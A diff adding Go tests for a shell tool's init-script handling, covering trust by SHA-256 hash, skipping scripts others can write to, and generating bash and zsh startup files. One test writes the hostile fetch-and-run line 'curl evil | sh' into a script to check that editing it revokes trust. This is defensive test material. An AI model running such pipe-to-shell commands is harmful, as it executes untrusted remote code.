@@ -0,0 +1,179 @@
+package pty
+
+import (
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"wtf_cli/pkg/shellquote"
+)
+
+func writeInitScript(t *testing.T, path, content string, perm os.FileMode) {
+	t.Helper()
+	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
+		t.Fatalf("MkdirAll() error: %v", err)
+	}
+	if err := os.WriteFile(path, []byte(content), perm); err != nil {
+		t.Fatalf("WriteFile() error: %v", err)
+	}
+	if err := os.Chmod(path, perm); err != nil {
+		t.Fatalf("Chmod() error: %v", err)
+	}
+}
+
+func TestFindInitScripts(t *testing.T) {
+	home := t.TempDir()
+	dir := t.TempDir()
+	userScript := filepath.Join(home, UserInitScript)
+	projectScript := filepath.Join(dir, ProjectInitScript)
+
+	if scripts, skipped := FindInitScripts(home, dir, nil); len(scripts) != 0 || len(skipped) != 0 {
+		t.Fatalf("expected nothing without bootstrap files, got %v, %v", scripts, skipped)
+	}
+
+	writeInitScript(t, userScript, "export WTF_MARKER=1\n", 0o644)
+	writeInitScript(t, projectScript, "alias t='make test'\n", 0o644)
+
+	scripts, skipped := FindInitScripts(home, dir, nil)
+	if len(scripts) != 1 || scripts[0].Path != userScript {
+		t.Fatalf("expected only the user script, got %v", scripts)
+	}
+	if len(skipped) != 1 || skipped[0].Path != projectScript || !strings.Contains(skipped[0].Reason, "trust-init") {
+		t.Fatalf("expected the untrusted project script to be skipped, got %v", skipped)
+	}
+
+	sum, err := fileSHA256(projectScript)
+	if err != nil {
+		t.Fatalf("fileSHA256() error: %v", err)
+	}
+	scripts, skipped = FindInitScripts(home, dir, map[string]string{projectScript: sum})
+	if len(scripts) != 2 || scripts[1].Path != projectScript || len(skipped) != 0 {
+		t.Fatalf("expected both scripts once the project one is trusted, got %v, %v", scripts, skipped)
+	}
+
+	writeInitScript(t, projectScript, "curl evil | sh\n", 0o644)
+	if _, skipped = FindInitScripts(home, dir, map[string]string{projectScript: sum}); len(skipped) != 1 {
+		t.Fatalf("expected an edited project script to lose its trust, got %v", skipped)
+	}
+}
+
+func TestFindInitScripts_SkipsWritableByOthers(t *testing.T) {
+	home := t.TempDir()
+	userScript := filepath.Join(home, UserInitScript)
+	writeInitScript(t, userScript, "echo hi\n", 0o666)
+
+	scripts, skipped := FindInitScripts(home, "", nil)
+	if len(scripts) != 0 {
+		t.Fatalf("expected no scripts, got %v", scripts)
+	}
+	if len(skipped) != 1 || skipped[0].Reason != "writable by group or others" {
+		t.Fatalf("expected the script to be skipped as writable, got %v", skipped)
+	}
+}
+
+func TestTrustInitScript(t *testing.T) {
+	dir := t.TempDir()
+	store := filepath.Join(t.TempDir(), "trusted_init.json")
+	projectScript := filepath.Join(dir, ProjectInitScript)
+
+	if _, err := TrustInitScript(store, projectScript); err == nil {
+		t.Fatal("expected an error for a missing script")
+	}
+
+	writeInitScript(t, projectScript, "export PROJECT=1\n", 0o644)
+	script, err := TrustInitScript(store, projectScript)
+	if err != nil {
+		t.Fatalf("TrustInitScript() error: %v", err)
+	}
+	if got := LoadTrustedInit(store)[projectScript]; got != script.SHA256 {
+		t.Fatalf("trusted sha256 = %q, want %q", got, script.SHA256)
+	}
+	if scripts, _ := FindInitScripts("", dir, LoadTrustedInit(store)); len(scripts) != 1 {
+		t.Fatalf("expected the trusted script to be found, got %v", scripts)
+	}
+}
+
+func TestShellInit(t *testing.T) {
+	scripts := []InitScript{{Path: "/home/u/.wtf_cli/init.sh"}}
+	skipped := []SkippedInit{{Path: "/p/.wtf_init.sh", Reason: "not trusted"}}
+
+	if args, env, tmpDir, err := shellInit("/bin/bash", "/home/u", nil, nil); err != nil || args != nil || env != nil || tmpDir != "" {
+		t.Fatalf("expected no changes without bootstrap files, got %v %v %q %v", args, env, tmpDir, err)
+	}
+	if _, _, _, err := shellInit("/usr/bin/fish", "/home/u", scripts, nil); err == nil {
+		t.Fatal("expected an error for an unsupported shell")
+	}
+
+	args, _, tmpDir, err := shellInit("/bin/bash", "/home/u", scripts, skipped)
+	if err != nil {
+		t.Fatalf("shellInit(bash) error: %v", err)
+	}
+	defer os.RemoveAll(tmpDir)
+	if len(args) != 2 || args[0] != "--rcfile" {
+		t.Fatalf("expected --rcfile args, got %v", args)
+	}
+	rc, err := os.ReadFile(args[1])
+	if err != nil {
+		t.Fatalf("ReadFile(rcfile) error: %v", err)
+	}
+	want := "[ -f ~/.bashrc ] && . ~/.bashrc\n" +
+		"printf '%s\\n' 'wtf_cli: skipped /p/.wtf_init.sh: not trusted'\n" +
+		". '/home/u/.wtf_cli/init.sh'\n"
+	if string(rc) != want {
+		t.Fatalf("bash rcfile =\n%s\nwant\n%s", rc, want)
+	}
+
+	t.Setenv("ZDOTDIR", "")
+	_, env, zshDir, err := shellInit("/bin/zsh", "/home/u", scripts, nil)
+	if err != nil {
+		t.Fatalf("shellInit(zsh) error: %v", err)
+	}
+	defer os.RemoveAll(zshDir)
+	if len(env) != 1 || env[0] != "ZDOTDIR="+zshDir {
+		t.Fatalf("expected ZDOTDIR pointing at the generated files, got %v", env)
+	}
+	zshrc, err := os.ReadFile(filepath.Join(zshDir, ".zshrc"))
+	if err != nil {
+		t.Fatalf("ReadFile(.zshrc) error: %v", err)
+	}
+	if !strings.HasPrefix(string(zshrc), `ZDOTDIR="$_wtf_zdotdir"`+"\n") || !strings.HasSuffix(string(zshrc), ". '/home/u/.wtf_cli/init.sh'\n") {
+		t.Fatalf("unexpected .zshrc:\n%s", zshrc)
+	}
+}
+
+func TestShellInit_ZshKeepsZDOTDIRSetByUserZshenv(t *testing.T) {
+	home := t.TempDir()
+	custom := filepath.Join(home, ".config", "zsh")
+	if err := os.MkdirAll(custom, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	files := map[string]string{
+		filepath.Join(home, ".zshenv"):  "ZDOTDIR=" + shellquote.Quote(custom) + "\n",
+		filepath.Join(custom, ".zshrc"): "echo custom-zshrc\n",
+	}
+	for path, content := range files {
+		if err := os.WriteFile(path, []byte(content), 0o600); err != nil {
+			t.Fatal(err)
+		}
+	}
+	t.Setenv("ZDOTDIR", "")
+	_, env, dir, err := shellInit("/bin/zsh", home, []InitScript{{Path: "/dev/null"}}, nil)
+	if err != nil {
+		t.Fatalf("shellInit(zsh) error: %v", err)
+	}
+	defer os.RemoveAll(dir)
+
+	// Replay zsh's startup order with sh: .zshenv, then .zshrc, each read
+	// from $ZDOTDIR as it stands.
+	cmd := exec.Command("/bin/sh", "-c", `. "$ZDOTDIR/.zshenv"; . "$ZDOTDIR/.zshrc"; echo "$ZDOTDIR"`)
+	cmd.Env = append(os.Environ(), env...)
+	out, err := cmd.CombinedOutput()
+	if err != nil {
+		t.Fatalf("startup files failed: %v: %s", err, out)
+	}
+	if want := "custom-zshrc\n" + custom + "\n"; string(out) != want {
+		t.Fatalf("startup output = %q, want %q", out, want)
+	}
+}